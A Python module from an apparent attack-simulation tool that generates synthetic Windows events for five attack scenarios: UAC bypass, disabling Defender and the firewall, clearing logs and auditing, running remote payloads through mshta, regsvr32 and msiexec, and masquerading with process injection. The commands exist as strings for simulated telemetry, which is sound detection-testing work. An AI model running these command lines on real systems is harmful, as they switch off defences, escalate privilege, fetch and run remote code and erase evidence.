"""Attacks on what protects: consent, the virus scanner, the logs; and hiding in programs that are trusted."""

from __future__ import annotations

from collections.abc import Iterator

from tocsin.simulate.actions import LogClear, ProcessStart, RegistrySet, RemoteThread
from tocsin.simulate.organisation import SYSTEM
from tocsin.simulate.scenarios.cast import Act, Cast, Scenario
from tocsin.simulate.software import CMD, EXPLORER, POWERSHELL

_REG = "C:\\Windows\\System32\\reg.exe"


def _uac(cast: Cast) -> Iterator[Act]:
    classes, helper = cast.rng.choice(
        (
            ("ms-settings\\shell\\open\\command", "fodhelper.exe"),
            ("ms-settings\\Shell\\Open\\command", "computerdefaults.exe"),
            ("mscfile\\shell\\open\\command", "eventvwr.exe"),
        )
    )
    payload = cast.one_of(
        cast.implant, f"cmd.exe /c {cast.implant}", f"powershell.exe -w hidden -c {cast.download()}"
    )
    add = f'reg.exe add HKCU\\Software\\Classes\\{classes} /d "{payload}" /f'
    yield Act("redirect-helper", "T1548.002", cast.run(add))
    root = f"HKU\\{{sid}}_Classes\\{classes}"
    for name, details in (("(Default)", payload), ("DelegateExecute", "(Empty)")):
        yield Act(
            "redirect-helper",
            "T1548.002",
            RegistrySet(cast.victim, cast.desk, _REG, f"{root}\\{name}", details),
        )
    image = f"C:\\Windows\\System32\\{helper}"
    shell = f"cmd.exe /c {cast.implant}"
    raised = ProcessStart(cast.victim, cast.desk, CMD, shell, image, f'"{image}"', elevated=True)
    yield Act("run-without-consent", "T1548.002", raised)
    policies = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System"
    lower = f"reg.exe add {policies} /v EnableLUA /t REG_DWORD /d 0 /f"
    yield Act("switch-consent-off", "T1548.002", cast.run(lower, account=cast.admin, machine=cast.desk))


def _impair(cast: Cast) -> Iterator[Act]:
    who, where = cast.admin, cast.desk
    setting = cast.one_of("DisableRealtimeMonitoring", "DisableBehaviorMonitoring", "DisableIOAVProtection")
    line = f'powershell.exe -c "{cast.cased("Set-MpPreference")} -{setting} $true"'
    yield Act("weaken-scanner", "T1685", cast.run(line, account=who, machine=where))
    folder = cast.one_of("C:\\", "C:\\ProgramData", "C:\\Users\\Public")
    exclude = f'powershell.exe -c "Add-MpPreference -ExclusionPath {folder}"'
    yield Act("exclude-folder", "T1685", cast.run(exclude, account=who, machine=where))
    key = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender"
    add = f'reg.exe add "{key}" /v DisableAntiSpyware /t REG_DWORD /d 1 /f'
    yield Act("disable-by-policy", "T1685", cast.run(add, account=who, machine=where))
    value = RegistrySet(who, where, _REG, f"{key}\\DisableAntiSpyware", "DWORD (0x00000001)")
    yield Act("disable-by-policy", "T1685", value)
    stop = cast.one_of(
        "sc.exe stop WinDefend", "sc.exe config WinDefend start= disabled", "net.exe stop Sense"
    )
    yield Act("stop-scanner", "T1685", cast.run(stop, account=who, machine=where))
    firewall = cast.one_of(
        "netsh.exe advfirewall set allprofiles state off",
        "netsh.exe advfirewall set currentprofile state off",
        "netsh.exe firewall set opmode disable",
    )
    yield Act("switch-firewall-off", "T1686.003", cast.run(firewall, account=who, machine=where))


def _clear_logs(cast: Cast) -> Iterator[Act]:
    who, where = cast.admin, cast.rng.choice((cast.server, cast.controller, cast.desk))
    for channel in cast.rng.sample(("Security", "System", "Application"), 2):
        line = cast.one_of(
            f"wevtutil.exe {cast.one_of('cl', 'clear-log', 'CL')} {channel}",
            f'powershell.exe -c "Clear-EventLog -LogName {channel}"',
        )
        yield Act("clear-logs", "T1685.005", cast.run(line, account=who, machine=where))
        yield Act("clear-logs", "T1685.005", LogClear(who, where, channel))
    channel = cast.one_of("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-PowerShell/Operational")
    off = f"wevtutil.exe sl {channel} /e:false"
    yield Act("switch-log-off", "T1685.001", cast.run(off, account=who, machine=where))
    audit = cast.one_of(
        "auditpol.exe /clear /y",
        'auditpol.exe /set /category:"Logon/Logoff" /success:disable /failure:disable',
    )
    yield Act("switch-auditing-off", "T1685.001", cast.run(audit, account=who, machine=where))
    journal = "fsutil.exe usn deletejournal /d C:"
    yield Act("delete-journal", "T1070", cast.run(journal, account=who, machine=where))


def _trusted_programs(cast: Cast) -> Iterator[Act]:
    entry = cast.one_of("Start", "#1", "DllRegisterServer")
    shell = f'CreateObject(""WScript.Shell"").Run ""{cast.implant}"":close'
    commands = {
        ("run-remote-hta", "T1218.005"): (
            f"mshta.exe {cast.url('hta')}",
            f'mshta.exe vbscript:Execute("{shell}")',
        ),
        ("register-remote-script", "T1218.010"): (
            f"regsvr32.exe /s /n /u /i:{cast.url('sct')} scrobj.dll",
            f"regsvr32.exe /i:{cast.url('sct')} /s scrobj.dll",
        ),
        ("run-library", "T1218.011"): (
            f"rundll32.exe {cast.dropped('dll')},{entry}",
            'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();',
        ),
        ("install-remote-package", "T1218.007"): (
            f"msiexec.exe /q /i {cast.url('msi')}",
            f"msiexec.exe /i {cast.url('msi')} /quiet /norestart",
        ),
        ("run-installer-class", "T1218.004"): (
            f"InstallUtil.exe /logfile= /LogToConsole=false /U {cast.dropped('dll')}",
        ),
    }
    for (step, technique), lines in cast.rng.sample(list(commands.items()), 4):
        line = cast.one_of(*lines)
        dotnet = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe"
        image = dotnet if line.startswith("InstallUtil") else ""
        yield Act(step, technique, cast.run(line, image=image, parent=cast.one_of(CMD, EXPLORER, POWERSHELL)))


def _masquerade(cast: Cast) -> Iterator[Act]:
    name = cast.one_of("svchost.exe", "lsass.exe", "csrss.exe", "services.exe", "winlogon.exe")
    folder = cast.one_of("C:\\ProgramData", "C:\\Users\\Public", "C:\\Windows\\Temp", "C:\\Windows")
    image = f"{folder}\\{name}"
    yield Act("run-as-system-program", "T1036.005", cast.run(image, image=image, parent=EXPLORER))
    renamed = cast.dropped("exe")
    original, line = cast.rng.choice(
        (
            ("powershell.exe", f"{renamed} -nop -w hidden -c {cast.download()}"),
            ("cmd.exe", f"{renamed} /c {cast.dropped('bat')}"),
            ("certutil.exe", f"{renamed} -urlcache -f {cast.url('exe')} {cast.dropped('exe')}"),
        )
    )
    start = ProcessStart(cast.victim, cast.desk, renamed, line, CMD, f'"{CMD}"', original=original)
    yield Act("run-renamed-tool", "T1036.003", start)
    double = (
        f"C:\\Users\\{cast.victim.name}\\Downloads\\{cast.word()}.{cast.one_of('pdf', 'docx', 'jpg')}.exe"
    )
    yield Act("open-double-extension", "T1036.007", cast.run(f'"{double}"', image=double, parent=EXPLORER))
    target = cast.one_of(EXPLORER, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\spoolsv.exe")
    module, function = cast.rng.choice(
        (
            ("-", "-"),
            ("C:\\Windows\\System32\\kernel32.dll", "LoadLibraryA"),
            ("C:\\Windows\\System32\\kernel32.dll", "LoadLibraryW"),
        )
    )
    yield Act("inject", "T1055", RemoteThread(cast.victim, cast.desk, image, target, module, function))
    inner = cast.run(
        f"cmd.exe /c {cast.implant}", image=CMD, parent="C:\\Windows\\System32\\spoolsv.exe", account=SYSTEM
    )
    yield Act("run-from-injected", "T1055", inner)


SCENARIOS = (
    Scenario("uac-bypass", "Get administrative rights without being asked", _uac),
    Scenario("impair-defences", "Switch the virus scanner and the firewall off", _impair),
    Scenario("log-clearing", "Empty the logs and stop them from filling again", _clear_logs),
    Scenario("trusted-programs", "Run code through programs that belong to Windows", _trusted_programs),
    Scenario("masquerading", "Pose as a part of Windows and hide inside other programs", _masquerade),
)
